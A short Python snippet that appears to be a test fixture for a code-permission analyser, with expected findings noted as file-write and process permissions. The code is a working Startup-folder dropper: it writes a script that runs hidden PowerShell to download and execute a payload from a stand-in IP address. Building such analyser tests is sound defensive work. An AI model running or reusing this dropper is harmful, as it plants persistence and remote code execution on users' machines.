# a constant script written to disk (a Startup-folder dropper) is analysed as code
import os

path = os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup", "u.py")
open(path, "w").write("import os\nos.system('powershell -w hidden -c iwr http://203.0.113.9/a.ps1 | iex')\n")  # expect: perm-fs-write, perm-process
